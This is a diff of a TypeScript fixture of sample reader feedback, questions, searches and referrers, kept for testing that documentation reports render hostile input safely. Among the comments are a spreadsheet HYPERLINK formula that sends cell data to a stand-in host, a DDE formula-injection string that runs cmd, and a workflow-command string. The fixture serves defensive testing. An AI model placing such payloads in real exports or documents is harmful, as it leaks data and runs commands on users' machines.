@@ -1,17 +1,16 @@
 /**
- * What readers typed. Most of it is what readers type; some of it is what they also type: markup, links, mentions,
- * workflow commands, spreadsheet formulas, control characters, addresses and numbers that belong to them. Whatever
- * shows these texts has to survive them.
+ * Contains the texts of sample readers. Some are hostile or private: markup, links, mentions, workflow commands,
+ * spreadsheet formulas, control characters, e-mail addresses and card numbers. Reports must render them safely.
  */
 
-/** A question to the assistant with its answer and how sure the assistant was, before chance moves it a little. */
-interface TypicalQuestion {
+/** A question to the assistant, its answer and its confidence, which each visit varies a little. */
+interface SampleQuestion {
   readonly question: string;
   readonly answer: string;
   readonly confidence: number;
 }
 
-export const LIKED: readonly string[] = [
+export const LIKE_COMMENTS: readonly string[] = [
   'Exactly what I needed, thanks!',
   'Clear and short.',
   'The example worked on the first try.',
@@ -21,7 +20,7 @@ export const LIKED: readonly string[] = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a prize")',
 ];
 
-export const DISLIKED: readonly string[] = [
+export const DISLIKE_COMMENTS: readonly string[] = [
   'The command in step 3 fails with "permission denied".',
   'Screenshot is outdated, the menu is called Settings now.',
   'Where is the rate limit documented?',
@@ -35,7 +34,7 @@ export const DISLIKED: readonly string[] = [
   "-2+3+cmd|'/C calc'!A0",
 ];
 
-export const QUESTIONS: readonly TypicalQuestion[] = [
+export const QUESTIONS: readonly SampleQuestion[] = [
   {
     question: 'How do I install the CLI?',
     answer: 'Run `npm install -g example`, see [Install](/guides/install).',
@@ -85,7 +84,7 @@ export const QUESTIONS: readonly TypicalQuestion[] = [
   },
 ];
 
-/** What is searched for; the most common first. */
+/** Search queries, most frequent first. */
 export const SEARCHES: readonly { readonly query: string; readonly hasResults: boolean }[] = [
   { query: 'install', hasResults: true },
   { query: 'api key', hasResults: true },
@@ -104,7 +103,7 @@ export const SEARCHES: readonly { readonly query: string; readonly hasResults: b
   { query: '::error::search', hasResults: false },
 ];
 
-/** Where readers come from; empty for no referrer. The most common first. */
+/** Referrers, most frequent first. An empty string means no referrer. */
 export const REFERRERS: readonly string[] = [
   '',
   'https://www.google.com/',
